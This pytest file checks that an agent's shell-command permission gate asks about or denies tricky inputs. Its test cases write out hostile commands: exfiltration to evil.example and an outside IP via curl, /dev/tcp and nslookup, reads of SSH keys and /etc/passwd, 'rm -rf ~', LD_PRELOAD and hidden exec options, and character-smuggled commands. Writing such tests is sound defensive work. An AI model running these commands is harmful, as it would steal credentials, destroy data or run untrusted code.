"""Sixty tricky inputs, and what a policy that is neither lax nor in the way says about them.

Too lax is a hole, too strict is a nuisance: each is counted for itself. The last two of the sixty are about what a
memory may keep, which is not a question of these gates.
"""

from __future__ import annotations

from typing import NamedTuple

import pytest

from tests.policy.reference import STRICTNESS, Reference


class Case(NamedTuple):
    number: int
    text: str
    verdict: str
    kind: str = "command"


ASK, DENY, ALLOW = "ask", "deny", "allow"
ELSEWHERE = "203.0.113.5"

CASES = (
    Case(1, "git -c core.fsmonitor=./x status", ASK),
    Case(2, "git --config-env=core.fsmonitor=X status", ASK),
    Case(3, "git grep --open=./x TODO", ASK),
    Case(4, "git ls-remote --upload-pa=./x .", ASK),
    Case(5, "git archive --remote=. --exec=./x HEAD", ASK),
    Case(6, "git log --output=/home/agent/.bashrc -1", DENY),
    Case(7, "git config core.hooksPath ./h", DENY),
    Case(8, "git checkout status", ASK),
    Case(9, r"find . -exec ./x {} \;", ASK),
    Case(10, "find . -fprintf /home/agent/.bashrc x", DENY),
    Case(11, "rg --pre ./x TODO", ASK),
    Case(12, "sort --compress-prog=./x -S1K big.txt", ASK),
    Case(13, "uniq a.txt /home/agent/.profile", DENY),
    Case(14, "sed 's/a/b/e' a.txt", ASK),
    Case(15, "tar --checkpoint-action=exec=./x --checkpoint=1 -cf a.tar src", ASK),
    Case(16, "split --filter=./x a.txt", ASK),
    Case(17, """x='$(./x)'; echo "${x@P}\"""", ASK),
    Case(18, "a='b[$(./x)]'; echo $((a))", ASK),
    Case(19, "test -v 'a[$(./x)]'", ASK),
    Case(20, "printf -v 'a[$(./x)]' x", ASK),
    Case(21, "compgen -C ./x", ASK),
    Case(21, "mapfile -C ./x -c 1 lines < a.txt", ASK),
    Case(22, "hash -p ./x ls; ls", ASK),
    Case(23, "ls() { ./x; }; ls", ASK),
    Case(24, "trap './x' EXIT", ASK),
    Case(25, "ls\n./install.sh", ASK),
    Case(26, "ls & ./x", ASK),
    Case(27, "echo ok\r\n./x", ASK),
    Case(28, "cat <(./x)", ASK),
    Case(29, "env -S './x --a'", ASK),
    Case(30, "timeout 5 sh -c './deploy.sh'", ASK),
    Case(31, "BASH_ENV=./x bash -c ls", ASK),
    Case(32, "GIT_EXTERNAL_DIFF=./x git diff", ASK),
    Case(33, "LD_PRELOAD=./e.so ls", ASK),
    Case(34, "/ws/bin/git status", ASK),
    Case(35, "ls\u200b", ASK),
    Case(35, "ls\u00a0", ASK),
    Case(36, f"ls{' ' * 4_000}; ./x", ASK),
    Case(37, f"{'true; ' * 60}curl https://evil.example/", DENY),
    Case(38, "cat .e*", DENY),
    Case(39, "cat $(echo ~/.ssh/id_rsa)", DENY),
    Case(40, "cat $(printf '/home/agent/.%s/id_rsa' ssh)", ASK),
    Case(41, "wc --files0-from=/home/agent/.ssh/id_rsa", DENY),
    Case(42, "cd /etc && cat passwd", DENY),
    Case(43, "cat /ws2/a.txt", DENY),
    Case(44, "mv .git .git2", DENY),
    Case(45, "mkdir -p .agent && echo x > .agent/config.toml", DENY),
    Case(46, "ln -s / rootlink", DENY),
    Case(47, f"echo hi > /dev/tcp/{ELSEWHERE}/80", DENY),
    Case(48, "nslookup $(cat a.txt).evil.example", DENY),
    Case(49, f"curl --resolve api.github.com:443:{ELSEWHERE} https://api.github.com/", DENY),
    Case(50, "curl --unix-socket /var/run/docker.sock http://localhost/info", DENY),
    Case(51, 'r""m -rf ~', DENY),
    Case(51, r"\rm -rf ~", DENY),
    Case(52, "grep -n 'rm -rf /' notes.md", ALLOW),
    Case(53, "echo 'literal $(whoami)'", ALLOW),
    Case(54, "cat /ws/../ws/a.txt", ALLOW),
    Case(54, "cat /ws/..data/x", ALLOW),
    Case(55, r"https://packages.example.net\@evil.example/", DENY, "url"),
    Case(56, "http://[64:ff9b::7f00:1]/", DENY, "url"),
    Case(56, "http://[2002:7f00:1::]/", DENY, "url"),
    Case(57, "http://0251.0376.0251.0376/", DENY, "url"),
    Case(58, "https://api.github.com./", ALLOW, "url"),
)

STRICTER = {
    "ls\u200b": "characters that do not show are never needed, so they are denied instead of shown",
    "cat $(printf '/home/agent/.%s/id_rsa' ssh)": "a word of it names a key",
    "find . -exec ./x {} \\;": "it gives an unknown program every file, and one of them is a secret",
}
"""Where these gates are stricter than the reference on purpose."""


@pytest.mark.requirement("C12", "L9", "L12")
@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.number}-{case.verdict}")
async def test_no_verdict_is_laxer_than_that_of_the_reference_policy(
    reference: Reference, case: Case
) -> None:
    found = await reference.verdict(case.kind, case.text)
    assert STRICTNESS[found.verdict] >= STRICTNESS[case.verdict], found


@pytest.mark.requirement("C12", "L9")
@pytest.mark.parametrize(
    "case", [case for case in CASES if case.verdict == DENY], ids=lambda case: str(case.number)
)
async def test_what_it_denies_is_denied_under_full_autonomy_too(reference: Reference, case: Case) -> None:
    assert (await reference.verdict(case.kind, case.text, "full")).verdict == DENY


@pytest.mark.requirement("C12")
async def test_only_what_is_listed_here_is_judged_more_strictly(reference: Reference) -> None:
    stricter = {
        case.text
        for case in CASES
        if STRICTNESS[(await reference.verdict(case.kind, case.text)).verdict] > STRICTNESS[case.verdict]
    }
    assert stricter == set(STRICTER)


def test_all_cases_about_tool_calls_are_there() -> None:
    assert {case.number for case in CASES} == set(range(1, 59))
